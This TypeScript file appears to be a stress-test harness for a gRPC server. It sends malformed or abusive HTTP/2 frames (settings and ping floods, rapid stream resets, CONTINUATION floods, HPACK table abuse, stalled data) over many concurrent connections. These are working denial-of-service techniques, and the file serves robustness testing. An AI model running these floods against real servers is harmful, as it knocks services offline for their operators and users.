/** Attacks on the gRPC port with HTTP/2 frames that no client sends. */
import {
  callHeaders,
  endHeaders,
  frame,
  headerBlock,
  number32,
  preface,
  type RawConnection,
  rawConnection,
  setting,
} from '../../server/fixtures/raw-http2.ts';

type Attack = (connection: RawConnection, port: number) => Promise<void>;

const many = 50_000;
const opening = Buffer.concat([preface, frame('settings', 0)]);
const call = (port: number, stream: number) => frame('headers', stream, endHeaders, headerBlock(callHeaders(port)));
const flood =
  (bytes: Uint8Array): Attack =>
  async ({ send }) => {
    await send(opening);
    await send(bytes, many);
  };

/** Each attack ends with its connection, whichever side closes it. */
export const attacks: Record<string, Attack> = {
  settings: flood(frame('settings', 0, 0, setting(4, 65_535))),
  pings: flood(frame('ping', 0, 0, Buffer.alloc(8))),
  resets: async ({ send, socket }, port) => {
    await send(opening);
    for (let stream = 1; stream < many && !socket.destroyed; stream += 2)
      await send(Buffer.concat([call(port, stream), frame('reset', stream, 0, number32(8))]));
  },
  continuations: async ({ send }, port) => {
    await send(Buffer.concat([opening, frame('headers', 1, 0, headerBlock(callHeaders(port)))]));
    await send(frame('continuation', 1, 0, headerBlock({ 'x-more': 'x'.repeat(100) })), many);
  },
  tables: async ({ send, closed }, port) => {
    const update = Buffer.from('3fe1ffff7f', 'hex');
    await send(Buffer.concat([opening, frame('headers', 1, endHeaders, Buffer.concat([update, headerBlock(callHeaders(port))]))]));
    await closed;
  },
  TLS: async ({ send, closed }) => {
    await send(Buffer.from('16030100c8010000c40303', 'hex'));
    await closed;
  },
  // A hundred messages of 16 MiB are announced, and only a few bytes of each are sent.
  promises: async ({ send }, port) => {
    await send(opening);
    for (let stream = 1; stream < 200; stream += 2)
      await send(Buffer.concat([call(port, stream), frame('data', stream, 0, Buffer.from([0, 1, 0, 0, 0, 7, 7, 7]))]));
    await new Promise((resolve) => setTimeout(resolve, 500));
  },
  silence: async () => {
    await new Promise((resolve) => setTimeout(resolve, 500));
  },
};

/** Runs all attacks in turn until `isOver`, on several connections at a time. @returns the number of attacks by name */
export async function attack(port: number, connections: number, isOver: () => boolean): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  const names = Object.keys(attacks);
  let next = 0;
  const attacker = async () => {
    while (!isOver()) {
      const name = names[next++ % names.length] as string;
      const connection = await rawConnection(port).catch(() => null);
      if (!connection) continue;
      await attacks[name]?.(connection, port);
      connection.socket.destroy();
      counts[name] = (counts[name] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: connections }, attacker));
  return counts;
}
